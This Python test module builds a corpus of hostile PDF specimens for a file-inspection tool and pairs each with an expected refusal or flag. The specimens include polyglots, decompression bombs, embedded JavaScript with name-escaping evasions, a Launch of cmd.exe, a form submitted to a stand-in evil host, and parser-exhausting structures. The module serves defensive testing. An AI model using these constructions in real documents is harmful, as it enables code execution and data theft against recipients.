"""PDFs that are something else as well, are cut off, or do something when they are opened."""

import random
import zlib

from app.inspection.flag import Flag
from tests.inspection.corpus import office
from tests.inspection.corpus.pdfs import (
    CATALOG,
    CONTENT,
    assembled,
    hex_escaped,
    many_pages,
    object_stream,
    packed,
    pdf,
    script,
    stream,
)
from tests.inspection.corpus.specimen import Specimen, accepted, refused
from tests.inspection.corpus.zips import Member, archive, zeros

P = "Beschluss.pdf"
MIB = 1024 * 1024
RUNS = b"/OpenAction 5 0 R"
HTML = b"<html><script>alert(1)</script>"


def noise(length: int) -> bytes:
    """Bytes without any pattern, the same at every run."""
    return random.Random(4).randbytes(length)


def zipped() -> bytes:
    return archive([Member("evil.js", b"alert(1)")])


def across_window(shift: int) -> bytes:
    """A name that is parted where one window of reading ends."""
    head = pdf()
    filling = MIB - len(head) - shift
    return head + b"%" + b"x" * (filling - 2) + b"\n" + script() + b"\n%%EOF\n"


def bomb() -> bytes:
    """A page whose content unpacks to 512 MiB."""
    return pdf(content=stream(b"\x78\x9c" + zeros(512), b"/Filter /FlateDecode"))


def loop() -> bytes:
    """A table of objects that names itself as the one before."""
    content = pdf(trailer=b"/Prev 0000000000")
    start = content.rindex(b"xref\n0")
    return content.replace(b"/Prev 0000000000", b"/Prev %010d" % start)


def flagged(label: str, content: bytes, *flags: Flag) -> Specimen:
    """A small PDF that is made at once."""
    return accepted(P, label, lambda: content, *flags)


REFUSED = (
    refused("empty", P, "nothing at all", lambda: b""),
    refused("content_unknown", P, "one byte", lambda: b"%"),
    refused("pdf_not_at_start", P, "a page in front", lambda: HTML + pdf()),
    refused("pdf_not_at_start", P, "39 bytes in front", lambda: b"x" * 39 + pdf()),
    refused("pdf_not_at_start", P, "a line end in front", lambda: b"\n" + pdf()),
    refused("pdf_not_at_start", P, "a mark of UTF-8 in front", lambda: b"\xef\xbb\xbf" + pdf()),
    refused("pdf_not_at_start", P, "a version that is none", lambda: pdf(version=b"x.y")),
    refused("pdf_incomplete", P, "cut off", lambda: pdf()[:-30]),
    refused("pdf_incomplete", P, "only its first line", lambda: b"%PDF-1.7\n"),
    refused("trailing_data", P, "2 KiB behind", lambda: pdf() + b"x" * 2_048),
    refused("trailing_data", P, "a page far behind", lambda: pdf() + b" " * 5_000 + HTML * 50),
    refused("trailing_data", P, "a program behind", lambda: pdf() + b"MZ" + noise(100_000)),
    refused("polyglot", P, "an archive behind", lambda: pdf() + zipped()),
    refused("polyglot", P, "a DOCX behind", lambda: pdf() + office.docx_with({})),
    refused("polyglot", P, "an archive before the end", lambda: (
        pdf(end=b"%") + zipped() + b"\n%%EOF")),
    refused("polyglot", P, "an archive in a stream", lambda: pdf(stream(zipped()))),
    refused("polyglot", P, "an archive far before the end", lambda: pdf(
        stream(zipped()), stream(noise(200_000)))),
    refused("polyglot", P, "an empty archive behind", lambda: pdf() + b"PK\x05\x06" + bytes(18)),
    refused("plain_archive", P, "an archive named .pdf", zipped),
    refused("kind_differs", P, "a DOCX named .pdf", lambda: office.docx_with({})),
    refused("kind_differs", "Konzept.docx", "a PDF named .docx", pdf),
    refused("kind_differs", "Foto.png", "a PDF named .png", pdf),
)  # fmt: skip
ACTIVE = (
    flagged("a script", pdf(script(), catalog=RUNS), Flag.JAVASCRIPT, Flag.OPEN_ACTION),
    flagged("a script, escaped", pdf(script(b"/J#61vaScript")), Flag.JAVASCRIPT),
    flagged("a script, all escaped", pdf(script(hex_escaped(b"JavaScript")).replace(
        b"/JS", b"/#4a#53")), Flag.JAVASCRIPT),
    flagged("a script, escaped in capitals", pdf(b"<< /S /#4AavaScript /J#53 (x) >>"),
            Flag.JAVASCRIPT),
    flagged("a script without spaces", pdf(b"<</S/JavaScript/JS<6170>>>"), Flag.JAVASCRIPT),
    flagged("a script by name", pdf(b"<< /Names [(a) 6 0 R] >>", script(),
            catalog=b"/Names << /JavaScript 5 0 R >>"), Flag.JAVASCRIPT),
    flagged("a script among packed objects", pdf(object_stream(script())), Flag.JAVASCRIPT),
    flagged("a script, escaped, among packed objects", pdf(object_stream(script(
        hex_escaped(b"JavaScript")))), Flag.JAVASCRIPT),
    flagged("packed objects, escaped", pdf(object_stream(script()).replace(
        b"/ObjStm", hex_escaped(b"ObjStm"))), Flag.JAVASCRIPT),
    accepted(P, "packed objects, deep down", lambda: pdf(
        object_stream(b" " * 9_000_000 + script())), Flag.JAVASCRIPT),
    flagged("many packed objects", pdf(*[object_stream(b"(x)")] * 300, object_stream(script())),
            Flag.JAVASCRIPT),
    flagged("packed objects, packed twice", pdf(stream(
        zlib.compress(script()).hex().encode(),
        b"/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]")), Flag.UNSEEN_OBJECTS),
    flagged("packed objects that are damaged", pdf(stream(
        b"x" * 100, b"/Type /ObjStm /Filter /FlateDecode")), Flag.UNSEEN_OBJECTS),
    accepted(P, "packed objects without end", lambda: pdf(stream(
        b"\x78\x9c" + zeros(40), b"/Type /ObjStm /Filter /FlateDecode")), Flag.UNSEEN_OBJECTS),
    flagged("a script behind a stream that is none", pdf(
        b"(stream\n)", script(), b"(endstream)"), Flag.JAVASCRIPT),
    flagged("a script in a comment's stream", pdf(b"null % stream\n", script()), Flag.JAVASCRIPT),
    flagged("a script in an update", pdf() + b"6 0 obj" + script() + b"endobj\n%%EOF",
            Flag.JAVASCRIPT),
    flagged("a flood of names", pdf(b"/JS " * 150_000, script()),
            Flag.JAVASCRIPT, Flag.UNSEEN_OBJECTS),
    flagged("a flood of streams", pdf(b"stream " * 150_000, script()), Flag.UNSEEN_OBJECTS),
    *(flagged(f"a script across windows, {n} before", across_window(n), Flag.JAVASCRIPT)
      for n in (0, 6, 10, 17, 18, 40)),
    flagged("an action at opening", pdf(catalog=b"/OpenAction << /S /Named /N /Print >>"),
            Flag.OPEN_ACTION),
    flagged("an action at opening, escaped", pdf(catalog=b"/Open#41ction<</S/Named>>"),
            Flag.OPEN_ACTION),
    flagged("actions of a page", pdf(b"<< /AA << /O 6 0 R >> >>"), Flag.ADDITIONAL_ACTIONS),
    flagged("a program started", pdf(b"<< /S /Launch /Win << /F (cmd.exe) >> >>"), Flag.LAUNCH),
    flagged("a program started, escaped", pdf(b"<< /S /La#75nch /F (cmd.exe) >>"), Flag.LAUNCH),
    flagged("a form sent off", pdf(b"<< /S /SubmitForm /F (http://evil.example) >>"), Flag.SUBMITS),
    flagged("data fetched", pdf(b"<< /S /ImportData /F (a.fdf) >>"), Flag.SUBMITS),
    flagged("another file opened", pdf(b"<< /S /GoToR /F (\\\\\\\\evil\\\\a) >>"),
            Flag.REMOTE_TARGET),
    flagged("an attached file opened", pdf(b"<< /S /GoToE /T << /R /C >> >>"), Flag.REMOTE_TARGET),
    flagged("a file attached", pdf(stream(b"MZ", b"/Type /EmbeddedFile")), Flag.EMBEDDED_FILE),
    flagged("files attached by name", pdf(catalog=b"/Names << /EmbeddedFiles 5 0 R >>"),
            Flag.EMBEDDED_FILE),
    flagged("a dynamic form", pdf(catalog=b"/AcroForm << /XFA 5 0 R >>"), Flag.XFA),
    flagged("a film", pdf(b"<< /Subtype /Movie /Movie << /F (a.avi) >> >>"), Flag.RICH_MEDIA),
    flagged("rich media", pdf(b"<< /Subtype /RichMedia >>"), Flag.RICH_MEDIA),
    flagged("encrypted", pdf(b"<< /Filter /Standard /V 1 >>", trailer=b"/Encrypt 5 0 R"),
            Flag.ENCRYPTED),
    flagged("encrypted, with packed objects", pdf(
        b"<< /Filter /Standard >>", stream(noise(99), b"/Type /ObjStm /Filter /FlateDecode"),
        trailer=b"/Encrypt 5 0 R"), Flag.ENCRYPTED),
)  # fmt: skip
# Nothing is wrong with these but what they do to a parser; they are kept, and read in a cell.
HARD_TO_READ = (
    accepted(P, "10,000 pages", lambda: many_pages(10_000)),
    accepted(P, "a page of a billion points", lambda: pdf(
        page=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 1000000000 1000000000] >>")),
    accepted(P, "a page without a surface", lambda: pdf(
        page=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 0 0] >>")),
    accepted(P, "a content of 512 MiB", bomb),
    accepted(P, "a table that names itself", loop),
    accepted(P, "pages that are their own parents", lambda: assembled(
        [CATALOG % b"", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"])),
    accepted(P, "arrays 100,000 deep", lambda: pdf(b"[" * 100_000 + b"]" * 100_000)),
    accepted(P, "arrays 100,000 deep in a page", lambda: pdf(content=stream(b"[" * 100_000))),
    accepted(P, "nothing but its ends", lambda: b"%PDF-1.7\n%%EOF\n"),
    accepted(P, "noise between its ends", lambda: b"%PDF-1.7\n" + noise(300_000) + b"\n%%EOF\n"),
    accepted(P, "a font that is noise", lambda: pdf(
        b"<< /Type /Font /Subtype /TrueType /FontDescriptor 6 0 R >>",
        b"<< /Type /FontDescriptor /FontFile2 7 0 R >>", packed(noise(50_000)),
        page=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
             b"/Resources << /Font << /F1 5 0 R >> >> >>")),
    accepted(P, "a picture of 100,000 by 100,000", lambda: pdf(
        stream(noise(64), b"/Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8 "
               b"/ColorSpace /DeviceRGB /Filter /DCTDecode"),
        content=stream(b"/I0 Do"),
        page=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
             b"/Resources << /XObject << /I0 5 0 R >> >> >>")),
    accepted(P, "a form that draws itself", lambda: pdf(
        stream(b"/F0 Do " * 20, b"/Subtype /Form /BBox [0 0 9 9] "
               b"/Resources << /XObject << /F0 5 0 R >> >>"),
        content=stream(b"/F0 Do"),
        page=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
             b"/Resources << /XObject << /F0 5 0 R >> >> >>")),
    accepted(P, "a length that lies", lambda: pdf(
        content=b"<< /Length 99999999999 >>\nstream\n" + CONTENT + b"\nendstream")),
)  # fmt: skip
HOSTILE: tuple[Specimen, ...] = (*REFUSED, *ACTIVE, *HARD_TO_READ)
